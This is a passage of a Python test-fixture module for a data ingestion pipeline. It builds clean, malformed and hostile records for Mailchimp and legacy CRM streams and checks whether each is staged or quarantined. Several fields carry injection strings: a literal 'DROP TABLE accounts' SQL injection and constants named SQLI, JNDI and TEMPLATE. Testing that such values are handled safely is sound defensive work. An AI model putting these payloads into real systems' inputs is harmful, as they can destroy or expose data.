        (g("e01"), staged(action="open", campaign_id="ba3c7e951e"), "clean"),
        ({**g("e02", "click"), "url": url}, staged(url=url, action="click"), "injection"),
        (g("e10", "delete"), mapped("unknown_value", "action", "not in value map email_actions"), "unknown_value"),
        ({**g("e11"), "timestamp": "0001-01-01T00:00:00+00:00"}, out_of_range_date("occurred_at"), "year_0001"),
        ({**g("e12"), "timestamp": "9999-12-31T23:59:59-05:00"},
         unreadable("datetime", "occurred_at", "out of range"), "year_9999"),
        ({**g("e13"), "campaign_id": {"id": "ba3c7e951e"}}, unreadable("text", "campaign_id", "JSON object"),
         "wrong_type"),
        ({**g("e14"), "email_address": 42}, gx("match_regex", "email", "email is not a valid address"),
         "wrong_type"),
        ({**g("e15"), "url": huge_text("x/")}, too_long("url"), "huge_string"),
    ]
    return [Case(s, st, rid(p), p, expect, kind) for p, expect, kind in cases] + _non_objects(s, st)


def mailchimp_sent_to() -> list[Case]:
    s, st = "mailchimp", "sent_to"
    g = good_mc_sent_to
    return [
        Case(s, st, "fadacc0fc9:s01", g("s01"), staged(action="sent", detail="sent"), "clean"),
        Case(s, st, "fadacc0fc9:s02", {**g("s02"), "status": SQLI_NAME}, staged(detail=SQLI_NAME), "injection"),
        Case(s, st, "fadacc0fc9:s10", {**g("s10"), "campaign_id": None}, required_missing("campaign_id"),
             "missing_required"),
        Case(s, st, "fadacc0fc9:s11", {**g("s11"), "email_id": ["s11", "s12"]},
             unreadable("id_ref", "contact_record_id", "JSON array"), "wrong_type"),
        Case(s, st, "fadacc0fc9:s12", {**g("s12"), "email_address": "jennifer@@hotmail"},
             gx("match_regex", "email", "email is not a valid address"), "invalid_email"),
        *_non_objects(s, st),
    ]


def mailchimp_unsubscribes() -> list[Case]:
    s, st = "mailchimp", "unsubscribes"
    g = good_mc_unsubscribe
    return [
        Case(s, st, "fadacc0fc9:u01", g("u01"), staged(status="unsubscribed", reason="Too many emails"), "clean"),
        Case(s, st, "fadacc0fc9:u02", {**g("u02"), "reason": SQLI_NAME}, staged(reason=SQLI_NAME), "injection"),
        Case(s, st, "fadacc0fc9:u03", {**g("u03"), "reason": f"{ARABIC_FIRST} {EMOJI_FIRST}"},
             staged(reason=f"{ARABIC_FIRST} {EMOJI_FIRST}"), "rtl_text"),
        Case(s, st, "fadacc0fc9:u10", {**g("u10"), "timestamp": None}, required_missing("recorded_at"),
             "missing_required"),
        Case(s, st, "fadacc0fc9:u11", {**g("u11"), "reason": huge_text()}, too_long("reason"), "huge_string"),
        Case(s, st, "fadacc0fc9:u12", {**g("u12"), "timestamp": "9999-12-31T23:59:59-05:00"},
             unreadable("datetime", "recorded_at", "out of range"), "year_9999"),
        Case(s, st, "fadacc0fc9:u13", {**g("u13"), "timestamp": "0001-01-01T00:00:00+00:00"},
             out_of_range_date("recorded_at"), "year_0001"),
        *_non_objects(s, st),
    ]


def legacy_crm_contacts() -> list[Case]:
    s, st = "legacy_crm", "contacts"
    g = good_crm_contact
    u = "3da6550e-1f87-4f12-9833-7e9a81ad38"
    return [
        Case(s, st, f"{u}01", g(f"{u}01"), staged(first_name="Артём", phone="+79394216932",
                                                  email_consent="unknown"), "clean"),
        Case(s, st, f"{u}02", {**g(f"{u}02", HEBREW_FIRST, HEBREW_LAST), "primary_address_city": SQLI_CITY},
             staged(first_name=HEBREW_FIRST, last_name=HEBREW_LAST, city=SQLI_CITY), "rtl_name"),
        Case(s, st, f"{u}03", {**g(f"{u}03", TEMPLATE, SQLI_NAME), "account_name": JNDI},
             staged(first_name=TEMPLATE, last_name=SQLI_NAME, company=JNDI), "injection"),
        Case(s, st, f"{u}04", {**g(f"{u}04"), "email_opt_out": 1}, staged(email_consent="opted_out"), "clean"),
        Case(s, st, f"{u}10", {**g(f"{u}10"), "birthdate": "0001-01-01"},
             unreadable("date_of_birth", "date_of_birth", "1900"), "year_0001"),
        Case(s, st, f"{u}11", {**g(f"{u}11"), "birthdate": "9999-12-31"},
             unreadable("date_of_birth", "date_of_birth", "future"), "year_9999"),
        Case(s, st, f"{u}12", {**g(f"{u}12"), "date_modified": "0000-00-00 00:00:00",
                               "date_modified_effective": "0000-00-00 00:00:00"},
             unreadable("datetime", "source_updated_at", "0000-00-00"), "zero_date"),
        Case(s, st, f"{u}13", {**g(f"{u}13"), "email_opt_out": "maybe"},
             mapped("unknown_value", "email_consent", "not in value map crm_opt_out"), "unknown_value"),
        Case(s, st, f"{u}14", {**g(f"{u}14"), "emails": [{"email_address": "a.alekseev@@example..ru"}]},
             gx("match_regex", "email", "email is not a valid address"), "invalid_email"),
        Case(s, st, f"{u}15", {**g(f"{u}15"), "phone_mobile": "not a phone at all"},
             gx("match_regex", "phone", "phone cannot be read as a valid number"), "invalid_phone"),
        Case(s, st, f"{u}16", {**g(f"{u}16"), "last_name": huge_text()}, too_long("last_name"), "huge_string"),
        Case(s, st, f"{u}17", {**g(f"{u}17"), "first_name": {"ru": "Артём"}},
             unreadable("name", "first_name", "JSON object"), "wrong_type"),
        Case(s, st, f"{u}18", {**g(f"{u}18"), "deleted": 1}, TOMBSTONE, "tombstone", deleted=True),
        Case(s, st, f"{u}19", {**g(f"{u}19"), "birthdate": "31.02.1985"},
             unreadable("date_of_birth", "date_of_birth", "not a date of birth"), "invalid_date"),
        *_non_objects(s, st),
    ]


def legacy_crm_accounts() -> list[Case]:
    s, st = "legacy_crm", "accounts"
    g = good_crm_account
    u = "2156fd82-5000-4bb3-b9b5-e14b21489f"
    return [
        Case(s, st, f"{u}01", g(f"{u}01"), staged(name="Acme Partners Inc.", domain="acmepartners.com"), "clean"),
        Case(s, st, f"{u}02", g(f"{u}02", "شركة النور"), staged(name="شركة النور"), "rtl_name"),
        Case(s, st, f"{u}03", g(f"{u}03", "Robert'); DROP TABLE accounts;--"),
             staged(name="Robert'); DROP TABLE accounts;--"), "injection"),
        Case(s, st, f"{u}04", {**g(f"{u}04"), "billing_address_city": TEMPLATES}, staged(city=TEMPLATES),
             "injection"),
        Case(s, st, f"{u}10", {**g(f"{u}10"), "name": None}, required_missing("name"), "missing_required"),
        Case(s, st, f"{u}11", {**g(f"{u}11"), "name": {"en": "Acme"}}, unreadable("text", "name", "JSON object"),
             "wrong_type"),
        Case(s, st, f"{u}12", {**g(f"{u}12"), "name": huge_text()}, too_long("name"), "huge_string"),
        Case(s, st, f"{u}13", {**g(f"{u}13"), "phone_office": "12"},
             gx("match_regex", "phone", "phone cannot be read as a valid number"), "invalid_phone"),
        Case(s, st, f"{u}14", {**g(f"{u}14"), "date_modified": "9999-12-31 23:59:59"},
             out_of_range_date("source_updated_at"), "year_9999"),
        *_non_objects(s, st),
    ]


def corpus() -> list[Case]:
    """Every hostile case (with the clean records they sit among), all mapped streams."""
    cases = [*woocommerce_customers(), *woocommerce_orders(), *quickbooks_customers(), *quickbooks_invoices(),
             *quickbooks_payments(), *mailchimp_members(), *mailchimp_email_activity(), *mailchimp_sent_to(),
             *mailchimp_unsubscribes(), *legacy_crm_contacts(), *legacy_crm_accounts()]
    keys = [(c.source, c.stream, c.record_id) for c in cases]
    assert len(keys) == len(set(keys)), "corpus keys must be unique"
    return cases


# A fix made at the source for one quarantined record of each kind of failure: the record's next
# version, which must leave quarantine and be staged on the next run.
def fixes() -> dict[tuple[str, str, str], tuple[Any, dict[str, Any]]]:
    """(source, stream, record_id) -> (fixed payload, staging values it must then have)."""
    return {
        ("woocommerce", "orders", "1010"): (good_woo_order(1010), {"amount": Decimal("12690.00")}),
        ("woocommerce", "customers", "16"): (good_woo_customer(16, "Ivan", "Volkov"), {"first_name": "Ivan"}),
        ("quickbooks", "invoices", "5019"): (good_qb_invoice("5019"), {"amount": Decimal("14200.00")}),
        ("legacy_crm", "contacts", "3da6550e-1f87-4f12-9833-7e9a81ad3810"):
            (good_crm_contact("3da6550e-1f87-4f12-9833-7e9a81ad3810"), {"first_name": "Артём"}),
        ("mailchimp", "members", "nonobj-list"):
            (good_mc_member("nonobj-list", "Petr", "Sidorov", "petr.sidorov@mail.ru"), {"first_name": "Petr"}),
    }


def summary(cases: list[Case]) -> dict[str, dict[str, int]]:
    """Counts per source of each kind of case (for the report)."""
    out: dict[str, dict[str, int]] = {}
    for case in cases:
        per = out.setdefault(case.source, {})
        per[case.kind] = per.get(case.kind, 0) + 1
    return out
